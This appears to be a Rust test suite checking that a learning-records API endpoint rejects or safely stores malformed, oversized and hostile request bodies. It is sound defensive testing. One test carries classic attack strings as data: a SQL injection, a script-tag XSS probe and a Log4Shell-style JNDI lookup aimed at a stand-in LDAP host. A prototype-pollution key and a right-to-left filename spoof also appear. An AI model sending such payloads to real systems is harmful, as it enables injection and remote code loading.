//! Input that means harm, or none at all.

use crate::support::{Stack, record, with};
use rstest::rstest;
use serde_json::{Value, json};

const PATH: &str = "/v1/learning-records";

#[rstest]
#[case::nothing("", 400)]
#[case::no_json("title=x", 400)]
#[case::array("[]", 400)]
#[case::text("\"x\"", 400)]
#[case::null("null", 400)]
#[case::two_values(r#"{"person_id":"a","title":"x"}{}"#, 400)]
#[case::duplicate_name(r#"{"person_id":"a","title":"x","title":"y"}"#, 400)]
#[case::duplicate_name_spelt_otherwise(r#"{"person_id":"a","title":"x","t\u0069tle":"y"}"#, 400)]
#[case::duplicate_server_field(r#"{"person_id":"a","title":"x","version":1,"version":2}"#, 400)]
#[case::huge_number(r#"{"person_id":"a","title":"x","score":1e999}"#, 400)]
#[case::tiny_number(r#"{"person_id":"a","title":"x","score":1e-999}"#, 201)]
#[case::negative_zero(r#"{"person_id":"a","title":"x","score":-0.0}"#, 201)]
#[case::lone_surrogate(r#"{"person_id":"a","title":"\ud800"}"#, 400)]
#[case::nul(r#"{"person_id":"a","title":"a\u0000b"}"#, 400)]
#[case::byte_order_mark("\u{feff}{\"person_id\":\"a\",\"title\":\"x\"}", 400)]
#[case::comment(r#"{"person_id":"a","title":"x"/**/}"#, 400)]
#[case::trailing_comma(r#"{"person_id":"a","title":"x",}"#, 400)]
#[case::prototype(r#"{"person_id":"a","title":"x","__proto__":{}}"#, 400)]
#[case::right_to_left(r#"{"person_id":"a","title":"\u202egnp.exe"}"#, 201)]
#[tokio::test]
async fn a_strange_body_does_no_harm(#[case] body: &str, #[case] status: u16) {
    let stack = Stack::start();
    let tenant = stack.tenant().await;
    let answer = tenant.admin().post(PATH, &json!({})).bytes(body.to_owned()).send().await;
    assert_eq!(answer.status, status, "{}", answer.text());
    if status == 400 {
        assert!(!answer.places().is_empty(), "{}", answer.text());
    }
}

#[rstest]
#[case::arrays("[".repeat(100_000))]
#[case::objects(r#"{"a":"#.repeat(100_000))]
#[case::closed(format!("{}1{}", "[".repeat(30_000), "]".repeat(30_000)))]
#[tokio::test]
async fn depth_does_no_harm(#[case] body: String) {
    let stack = Stack::start();
    let tenant = stack.tenant().await;
    let deep = tenant.admin().post(PATH, &json!({})).bytes(body.clone()).send().await;
    assert_eq!(deep.status, if body.len() > 65_536 { 413 } else { 400 }, "{}", deep.text());
    let within = format!(r#"{{"person_id":"a","title":{}1{}}}"#, "[".repeat(200), "]".repeat(200));
    assert_eq!(tenant.admin().post(PATH, &json!({})).bytes(within).send().await.status, 400);
}

#[tokio::test]
async fn bytes_that_are_no_text_do_no_harm() {
    let stack = Stack::start();
    let tenant = stack.tenant().await;
    let answer = tenant.admin().post(PATH, &json!({})).bytes(vec![0xff, 0xfe, 0x00, 0x80]).send().await;
    assert_eq!(answer.status, 400, "{}", answer.text());
}

#[tokio::test]
async fn a_body_may_be_as_large_as_the_limit_and_no_larger() {
    let stack = Stack::start();
    let tenant = stack.tenant().await;
    let body = |size: usize| {
        let start = r#"{"person_id":"a","title":"x""#;
        format!("{start}{}}}", " ".repeat(size - start.len() - 1))
    };
    assert_eq!(tenant.admin().post(PATH, &json!({})).bytes(body(65_536)).send().await.status, 201);
    let answer = tenant.admin().post(PATH, &json!({})).bytes(body(65_537)).send().await;
    assert_eq!(answer.status, 413);
    assert_eq!(answer.header("content-type"), Some("application/problem+json"), "{}", answer.text());
}

#[tokio::test]
async fn the_gateway_and_lambda_refuse_what_is_larger() {
    let stack = Stack::start();
    let tenant = stack.tenant().await;
    for size in [7_000_000, 10 * 1024 * 1024 + 1] {
        let answer = tenant.admin().post(PATH, &json!({})).bytes(" ".repeat(size)).send().await;
        assert_eq!(
            (answer.status.as_u16(), answer.text().as_str()),
            (413, r#"{"message":"Request Entity Too Large"}"#)
        );
    }
}

#[rstest]
#[case::none(None)]
#[case::form(Some("application/x-www-form-urlencoded"))]
#[case::text(Some("text/plain"))]
#[case::json_api(Some("application/vnd.api+json"))]
#[tokio::test]
async fn other_media_types_are_refused(#[case] content_type: Option<&str>) {
    let stack = Stack::start();
    let tenant = stack.tenant().await;
    let request = tenant.admin().post(PATH, &record("ada", "x")).without("content-type");
    let request = match content_type {
        Some(value) => request.header("content-type", value),
        None => request,
    };
    assert_eq!(request.send().await.status, 415);
}

#[rstest]
#[case::quotes(r#""'; DROP TABLE records; --"#)]
#[case::markup("<script>alert(1)</script>")]
#[case::template("${jndi:ldap://example.com/a}")]
#[case::emoji("👩🏽‍🎓".to_owned() + "é")]
#[tokio::test]
async fn text_is_just_text(#[case] title: impl Into<String>) {
    let stack = Stack::start();
    let tenant = stack.tenant().await;
    let title: String = title.into();
    let made = tenant.admin().create(&record("ada", &title)).await;
    assert_eq!(made["title"], Value::String(title));
}

#[rstest]
#[case("a#b")]
#[case("a%23b")]
#[case("T#x#P#y")]
#[case("REC#01ARZ3NDEKTSV4RRFFQ69G5FAV")]
#[tokio::test]
async fn separators_in_ids_lead_nowhere_else(#[case] id: &str) {
    let stack = Stack::start();
    let tenant = stack.tenant().await;
    let body = with(record(id, "x"), json!({"external_id": id, "activity_id": id}));
    let made = tenant.admin().create(&body).await;
    assert_eq!((&made["person_id"], &made["external_id"]), (&json!(id), &json!(id)));
    let encoded: String = id.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let list = tenant.admin().get(format!("{PATH}?person_id={encoded}")).send().await.json();
    assert_eq!(list["data"], json!([made]));
}
